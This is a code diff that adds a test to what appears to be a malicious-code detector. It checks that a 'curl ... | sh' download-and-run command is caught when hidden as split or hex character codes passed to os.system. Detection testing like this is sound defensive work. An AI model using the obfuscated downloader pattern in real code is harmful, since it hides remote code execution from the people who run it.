@@ -155,6 +155,22 @@ def test_numbers_a_file_runs_as_bytes_are_read(engine: Engine) -> None:
     assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
 
 
+@pytest.mark.parametrize("spell", [str, hex], ids=["short runs joined", "hex numbers"])
+def test_numbers_split_into_short_runs_or_written_in_hex_are_read(
+    engine: Engine, spell: Callable[[int], str]
+) -> None:
+    command = [ord(c) for c in "curl -fsSL https://x.example.net/b/boot.sh | sh"]
+    runs = [command[i : i + 5] for i in range(0, len(command), 5)]
+    names = [f"_p{i}" for i in range(len(runs))]
+    code = (
+        "import os\n\n"
+        + "".join(f"{n} = [{', '.join(map(spell, r))}]\n" for n, r in zip(names, runs, strict=True))
+        + f"os.system(''.join(map(chr, {' + '.join(names)})))\n"
+    )
+    labels = _rules(_module(engine, code))
+    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
+
+
 def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
     engine: Engine,
 ) -> None:
